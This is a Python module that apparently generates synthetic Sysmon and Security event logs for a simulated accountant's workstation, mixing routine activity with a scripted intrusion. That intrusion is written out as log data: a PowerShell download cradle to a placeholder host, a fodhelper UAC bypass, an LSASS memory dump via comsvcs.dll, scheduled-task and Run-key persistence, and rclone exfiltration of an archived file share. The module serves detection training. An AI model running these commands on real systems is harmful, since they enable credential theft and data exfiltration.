"""WS01, the accountant's workstation: where it begins. Sysmon and the Security log."""
import base64

from windows import (PROGRAMS, SYSTEM32, WINDOWS, Sysmon, logoff, logon, machine_account,
                     security, subject)
from world import (ADDRESSES, ATTACKER, BERG, LOCAL_SERVICE, NETWORK_SERVICE, OLSEN, SYSTEM, Dice, at)

EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
OFFICE = PROGRAMS + "Microsoft Office\\root\\Office16\\"
HOME = "C:\\Users\\m.olsen\\"
LOCAL = HOME + "AppData\\Local\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
SCRIPT = LOCAL + "Temp\\inv4471.js"
IMPLANT = "C:\\Users\\Public\\OneDriveSync.dll"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('https://cdn-sync.example/a')"
SITES = (("www.example.com", "203.0.113.11"), ("news.example.net", "203.0.113.14"),
         ("bank.example.org", "203.0.113.27"), ("suppliers.example.com", "203.0.113.31"),
         ("travel.example.net", "203.0.113.45"), ("tax-office.example.org", "203.0.113.52"))


def encoded(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


class Workstation:
    """The processes that run at WS01 all the time."""

    def __init__(self):
        self.dice = Dice("WS01 Sysmon")
        self.log = s = Sysmon("WS01", self.dice)
        self.services = s.existing(SYSTEM32 + "services.exe", SYSTEM, 712)
        self.lsass = s.existing(SYSTEM32 + "lsass.exe", SYSTEM, 728)
        self.svchost = s.existing(SYSTEM32 + "svchost.exe", SYSTEM, 1096)
        self.svchost.command = SYSTEM32 + "svchost.exe -k netsvcs -p -s Schedule"
        self.dcom = s.existing(SYSTEM32 + "svchost.exe", SYSTEM, 924)
        self.dcom.command = SYSTEM32 + "svchost.exe -k DcomLaunch -p"
        self.dns = s.existing(SYSTEM32 + "svchost.exe", NETWORK_SERVICE, 1980)
        self.defender = s.existing(
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26030.9-0\\MsMpEng.exe", SYSTEM)
        self.monitor = s.existing(PROGRAMS + "Zabbix Agent 2\\zabbix_agent2.exe", SYSTEM)
        self.explorer = s.existing(WINDOWS + "explorer.exe", OLSEN)
        self.edge = s.existing(EDGE, OLSEN)
        self.outlook = s.existing(OFFICE + "OUTLOOK.EXE", OLSEN)
        self.onedrive = s.existing(PROGRAMS + "Microsoft OneDrive\\OneDrive.exe", OLSEN)


def quiet(w, t):
    """One ordinary thing that happens at time t; most are one to three events."""
    s, d = w.log, w.dice
    kind = d.int(1, 100)
    if kind <= 18:
        tab = s.start(t, w.edge, EDGE, '"%s" --type=%s --lang=en-GB --renderer-client-id=%d' % (
            EDGE, d.choice(("renderer", "utility", "gpu-process")), d.int(4, 400)),
            about=("Microsoft Edge", "msedge.exe"), integrity=d.choice(("Low", "Low", "Medium")))
        if d.chance(0.5):
            s.end(d.between(t, t.replace(minute=59, second=59)), tab)
    elif kind <= 32:
        name, address = d.choice(SITES)
        s.query(t, w.edge, name, address)
        s.connect(t, w.edge, address, 443, name)
    elif kind <= 38:
        s.connect(t, w.outlook, ADDRESSES["MAIL01"], 443, "mail.corp.example")
    elif kind <= 44:
        s.query(t, w.dns, d.choice(("dc01.corp.example", "mail.corp.example", "fs01.corp.example",
                                    "wpad.corp.example", "time.corp.example")), ADDRESSES["DC01"])
    elif kind <= 52:
        group, service = d.choice((("netsvcs -p", "wuauserv"), ("netsvcs -p", "BITS"),
                                   ("LocalService -p", "WebClient"), ("netsvcs -p", "Appinfo"),
                                   ("UnistackSvcGroup", "CDPUserSvc"), ("wsappx -p", "ClipSVC")))
        s.start(t, w.services, SYSTEM32 + "svchost.exe",
                SYSTEM32 + "svchost.exe -k %s -s %s" % (group, service),
                user=LOCAL_SERVICE if "Local" in group else SYSTEM)
    elif kind <= 58:
        s.start(t, w.dcom, SYSTEM32 + d.choice(("backgroundTaskHost.exe", "RuntimeBroker.exe")),
                SYSTEM32 + "RuntimeBroker.exe -Embedding", user=OLSEN)
    elif kind <= 63:
        s.start(t, w.dcom, SYSTEM32 + "dllhost.exe",
                SYSTEM32 + "DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", user=OLSEN)
    elif kind <= 70:
        p = s.start(t, w.monitor, POWERSHELL, "powershell.exe -NoProfile -NonInteractive -File "
                    "\"C:\\Program Files\\Zabbix Agent 2\\scripts\\%s.ps1\"" % d.choice(
                        ("disk_health", "pending_restart", "printer_queue")))
        s.end(t.replace(microsecond=999999), p)
    elif kind <= 77:
        program, file = d.choice((("EXCEL.EXE", "Q2 forecast.xlsx"), ("EXCEL.EXE", "Payments April.xlsx"),
                                  ("WINWORD.EXE", "Reminder letter.docx"), ("EXCEL.EXE", "VAT 2026.xlsx")))
        p = s.start(t, w.explorer, OFFICE + program, '"%s%s" "%sDocuments\\%s"' % (OFFICE, program, HOME, file),
                    about=("Microsoft " + program.split(".")[0].title(), program))
        s.create(t, p, HOME + "Documents\\~$" + file[2:])
    elif kind <= 83:
        s.create(t, w.onedrive, LOCAL + "Microsoft\\OneDrive\\logs\\Business1\\SyncEngine-%s.odl" % d.hex(8))
    elif kind <= 88:
        s.registry(t, w.explorer, "HKU\\" + OLSEN.sid + "\\Software\\Microsoft\\Windows\\CurrentVersion\\"
                   "Explorer\\RecentDocs\\.xlsx\\%d" % d.int(1, 40), "Binary Data")
    elif kind <= 92:
        s.start(t, w.svchost, SYSTEM32 + "taskhostw.exe", "taskhostw.exe " + d.choice(
            ("Logon", "SYSTEM", "KEYROAMING", "Install $(Arg0)")), user=d.choice((SYSTEM, OLSEN)))
    elif kind <= 96:
        s.load(t, w.outlook, SYSTEM32 + d.choice(("mapi32.dll", "winspool.drv", "msxml6.dll")))
    else:
        s.access(t, w.defender, d.choice((w.edge, w.lsass, w.explorer)), "0x1000",
                 SYSTEM32 + "ntdll.dll+9fc24|" + SYSTEM32 + "KERNELBASE.dll+2f4e6")


def phishing(w):
    """09:14: the invoice is opened; a script host, then PowerShell, then the implant."""
    s = w.log
    s.create(at(4, "09:13:41.2"), w.outlook, LOCAL + "Microsoft\\Windows\\INetCache\\Content.Outlook"
             "\\7K2QF0LX\\Invoice_4471.docm", attack=True)
    word = s.start(at(4, "09:14:07.118"), w.outlook, OFFICE + "WINWORD.EXE",
                   '"%sWINWORD.EXE" /n "%sMicrosoft\\Windows\\INetCache\\Content.Outlook\\7K2QF0LX\\'
                   'Invoice_4471.docm" /o ""' % (OFFICE, LOCAL),
                   about=("Microsoft Word", "WinWord.exe"), attack=True)
    s.load(at(4, "09:14:29.9"), word, SYSTEM32 + "wbem\\wbemdisp.dll", attack=True)
    s.create(at(4, "09:14:31.402"), word, SCRIPT, attack=True)
    host = s.start(at(4, "09:14:32.015"), word, SYSTEM32 + "wscript.exe",
                   'wscript.exe //B //E:jscript "%s"' % SCRIPT, attack=True)
    s.query(at(4, "09:14:32.9"), host, "cdn-sync.example", ATTACKER, attack=True)
    s.connect(at(4, "09:14:33.207"), host, ATTACKER, 443, "cdn-sync.example", attack=True)
    shell = s.start(at(4, "09:14:47.631"), host, POWERSHELL,
                    "powershell.exe -NoP -W Hidden -enc " + encoded(CRADLE), attack=True)
    s.query(at(4, "09:14:48.8"), shell, "cdn-sync.example", ATTACKER, attack=True)
    s.connect(at(4, "09:14:53.022"), shell, ATTACKER, 4443, attack=True)
    return shell


def foothold(w, shell):
    """09:16 to 09:30: looking around, then what survives a restart."""
    s = w.log
    look = (("09:16:20", "whoami.exe", "whoami /groups"),
            ("09:16:44", "net.exe", 'net group "Domain Admins" /domain'),
            ("09:17:02", "nltest.exe", "nltest /domain_trusts /all_trusts"),
            ("09:17:31", "net.exe", "net view /all /domain"),
            ("09:18:10", "wbem\\WMIC.exe", "wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct "
                                           "get displayName,productState"))
    for clock, program, command in look:
        s.start(at(4, clock), shell, SYSTEM32 + program, command, attack=True)
    s.create(at(4, "09:21:03.4"), shell, IMPLANT, attack=True)
    s.program_file(at(4, "09:21:03.6"), shell, IMPLANT, attack=True)
    s.start(at(4, "09:21:40.75"), shell, SYSTEM32 + "schtasks.exe",
            'schtasks /create /tn "OneDrive Sync Helper" /sc hourly /f /tr '
            '"rundll32 %s,Start"' % IMPLANT, attack=True)
    s.registry(at(4, "09:21:58.3"), shell, "HKU\\" + OLSEN.sid + "\\Software\\Microsoft\\Windows\\"
               "CurrentVersion\\Run\\OneDriveSync", "rundll32.exe %s,Start" % IMPLANT, attack=True)
    implant = s.start(at(4, "09:22:15.09"), shell, SYSTEM32 + "rundll32.exe",
                      "rundll32.exe %s,Start" % IMPLANT, attack=True)
    s.connect(at(4, "09:22:17.5"), implant, ATTACKER, 443, "cdn-sync.example", attack=True)
    return implant


def credentials(w, implant):
    """09:38: past UAC, LSASS to a file; at night the archive and its way out."""
    s = w.log
    s.registry(at(4, "09:38:02.6"), implant, "HKU\\" + OLSEN.sid + "_Classes\\ms-settings\\shell\\open\\"
               "command\\(Default)", "C:\\Windows\\System32\\cmd.exe", attack=True)
    helper = s.start(at(4, "09:38:05.1"), implant, SYSTEM32 + "fodhelper.exe", "fodhelper.exe",
                     integrity="High", about=("Features On Demand Helper", "FodHelper.EXE"), attack=True)
    shell = s.start(at(4, "09:38:06.44"), helper, SYSTEM32 + "cmd.exe", '"C:\\Windows\\System32\\cmd.exe"',
                    integrity="High", attack=True)
    dump = s.start(at(4, "09:41:12.87"), shell, SYSTEM32 + "rundll32.exe",
                   "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 728 "
                   "C:\\Windows\\debug\\lsass.dmp full", integrity="High", attack=True)
    s.access(at(4, "09:41:13.02"), dump, w.lsass, "0x1fffff", SYSTEM32 + "ntdll.dll+9fc24|" + SYSTEM32 +
             "KERNELBASE.dll+2f4e6|" + SYSTEM32 + "dbgcore.dll+6ecc", attack=True)
    s.create(at(4, "09:41:13.9"), dump, "C:\\Windows\\debug\\lsass.dmp", attack=True)
    archive = s.start(at(5, "00:22:40.2"), implant, "C:\\Users\\Public\\7z.exe",
                      "7z.exe a -pQ7fk2 -mhe=on C:\\Users\\Public\\a.7z \\\\FS01\\Accounts\\2026",
                      about=("7-Zip Console", "7z.exe"), attack=True)
    s.create(at(5, "00:31:02.7"), archive, "C:\\Users\\Public\\a.7z", attack=True)
    copy = s.start(at(5, "00:33:18.4"), implant, "C:\\Users\\Public\\rclone.exe",
                   "rclone.exe copy C:\\Users\\Public\\a.7z s:drop --config C:\\Users\\Public\\r.conf "
                   "--no-check-certificate", attack=True)
    s.connect(at(5, "00:33:20.1"), copy, ATTACKER, 443, "cdn-sync.example", attack=True)


def sysmon():
    w = Workstation()
    for _ in range(200):
        quiet(w, w.dice.office_time())
    credentials(w, foothold(w, phishing(w)))
    return w.log.records


def security_quiet(d, t):
    host = "WS01"
    kind = d.int(1, 100)
    if kind <= 34:
        yield logon(t, host, SYSTEM, 5, logon_id="0x3e7", process=SYSTEM32 + "services.exe")
        yield security(t, host, 4672, {**subject(SYSTEM, "0x3e7"), "PrivilegeList":
                       "SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\tSeDebugPrivilege"}, 12548)
    elif kind <= 52:
        yield security(t, host, 4799, {
            "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544",
            **machine_account(host), "CallerProcessId": "0x448",
            "CallerProcessName": SYSTEM32 + d.choice(("svchost.exe", "VSSVC.exe"))}, 13826)
    elif kind <= 66:
        yield security(t, host, 5379, {
            **subject(OLSEN), "TargetName": "MicrosoftAccount:target=SSO_POP_Device", "Type": "0",
            "CountOfCredentialsReturned": 1, "ReadOperation": "%%8100", "ReturnCode": 0,
            "ProcessCreationTime": "2026-05-04T06:58:20.1132217Z", "ClientProcessId": 5260}, 13824)
    elif kind <= 78:
        yield security(t, host, 4798, {
            "TargetUserName": "m.olsen", "TargetDomainName": "CORP", "TargetSid": OLSEN.sid,
            **machine_account(host), "CallerProcessId": "0x448",
            "CallerProcessName": SYSTEM32 + "svchost.exe"}, 13824)
    elif kind <= 90:
        logon_id = "0x%x" % d.int(0x100000, 0xffffff)
        yield logon(t, host, OLSEN, 7, "127.0.0.1", "0", logon_id, SYSTEM32 + "svchost.exe")
        yield logoff(t.replace(microsecond=999000), host, OLSEN, 7, logon_id)
        if d.chance(0.25):
            yield failed(t, host, OLSEN, 7)
    else:
        yield security(t, host, 5059, {
            **machine_account(host), "ProviderName": "Microsoft Software Key Storage Provider",
            "AlgorithmName": "UNKNOWN", "KeyName": "Microsoft Connected Devices Platform device certificate",
            "KeyType": "%%2500", "Operation": "%%2464", "ReturnCode": "0x0"}, 12292)


def failed(t, host, user, kind):
    return security(t, host, 4625, {
        **machine_account(host), "TargetUserSid": "S-1-0-0", "TargetUserName": user.name,
        "TargetDomainName": "CORP", "Status": "0xc000006d", "FailureReason": "%%2313",
        "SubStatus": "0xc000006a", "LogonType": kind, "LogonProcessName": "User32 ",
        "AuthenticationPackageName": "Negotiate", "WorkstationName": host, "ProcessId": "0x2d8",
        "ProcessName": SYSTEM32 + "svchost.exe", "IpAddress": "127.0.0.1", "IpPort": "0"}, 12544, failure=True)


def security_attack():
    host = "WS01"
    yield security(at(4, "09:21:40.91"), host, 4698, {
        **subject(OLSEN), "TaskName": "\\OneDrive Sync Helper", "TaskContent":
        '<Task version="1.2"><Triggers><TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition>'
        '</TimeTrigger></Triggers><Actions><Exec><Command>rundll32</Command><Arguments>%s,Start</Arguments>'
        '</Exec></Actions></Task>' % IMPLANT, "ClientProcessStartKey": "0", "ClientProcessId": "5512",
        "ParentProcessId": "6920", "RpcCallClientLocality": "0", "FQDN": "WS01.corp.example"}, 12804, attack=True)
    yield security(at(4, "09:41:13.04"), host, 4663, {
        **subject(OLSEN), "ObjectServer": "Security", "ObjectType": "Process",
        "ObjectName": "\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe", "HandleId": "0x2f4",
        "AccessList": "%%4484\r\n\t\t\t\t", "AccessMask": "0x10", "ProcessId": "0x1b7c",
        "ProcessName": SYSTEM32 + "rundll32.exe", "ResourceAttributes": "-"}, 12802, attack=True)
    yield security(at(4, "10:05:26.33"), host, 4648, {
        **subject(OLSEN), "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TargetUserName": BERG.name, "TargetDomainName": "CORP", "TargetLogonGuid":
        "{00000000-0000-0000-0000-000000000000}", "TargetServerName": "SRV02.corp.example",
        "TargetInfo": "cifs/SRV02.corp.example", "ProcessId": "0x1c04", "ProcessName": SYSTEM32 + "net.exe",
        "IpAddress": "-", "IpPort": "-"}, 12544, attack=True)


def security_log():
    d = Dice("WS01 Security")
    records = list(security_attack())
    records.append(logon(at(4, "06:57:44.2"), "WS01", OLSEN, 2, "127.0.0.1", "0", "0x8f2a1",
                         SYSTEM32 + "svchost.exe"))
    records.append(logon(at(5, "06:49:12.9"), "WS01", OLSEN, 2, "127.0.0.1", "0", "0x9137c",
                         SYSTEM32 + "svchost.exe"))
    records.append(logon(at(4, "08:40:31.7"), "WS01", BERG, 10, ADDRESSES["ADM01"], "61202", "0xa1182",
                         SYSTEM32 + "svchost.exe"))
    records.append(logoff(at(4, "08:52:03.1"), "WS01", BERG, 10, "0xa1182"))
    for _ in range(200):
        t = d.office_time()
        if at(4, "09:42:00") < t < at(4, "09:55:00"):
            continue  # these records are missing; see make-demo
        records.extend(security_quiet(d, t))
    return records
